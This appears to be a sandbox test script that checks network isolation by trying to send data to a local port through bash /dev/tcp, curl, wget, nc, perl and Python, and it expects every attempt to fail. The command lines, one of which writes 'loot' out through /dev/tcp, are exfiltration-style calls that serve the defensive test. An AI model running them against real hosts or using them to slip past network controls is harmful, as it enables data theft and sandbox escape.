"""Call out through other programs: bash and its /dev/tcp, curl, wget, nc, openssl, perl, another Python.

Family: network
Must fail: whatever is started is in the same network, which leads nowhere.
"""

# %% double_forward
import subprocess
import sys

for command in (
    ["bash", "-c", "echo loot > /dev/tcp/127.0.0.1/{PORT}"],
    ["curl", "-m", "1", "http://127.0.0.1:{PORT}/loot"],
    ["curl", "-m", "1", "--unix-socket", "{PATH_SOCKET}", "http://x/"],
    ["wget", "-T", "1", "-t", "1", "-O", "-", "http://127.0.0.1:{PORT}/"],
    ["nc", "-w", "1", "127.0.0.1", "{PORT}"],
    ["perl", "-MIO::Socket", "-e", "IO::Socket::INET->new('127.0.0.1:{PORT}')"],
    [sys.executable, "-c", "import urllib.request as u; u.urlopen('http://127.0.0.1:{PORT}', timeout=1)"],
):
    try:
        print(subprocess.run(command, capture_output=True, text=True, timeout=2, stdin=subprocess.DEVNULL))
    except (OSError, subprocess.TimeoutExpired) as error:
        print(command[0], error)
print("ATTEMPTED")
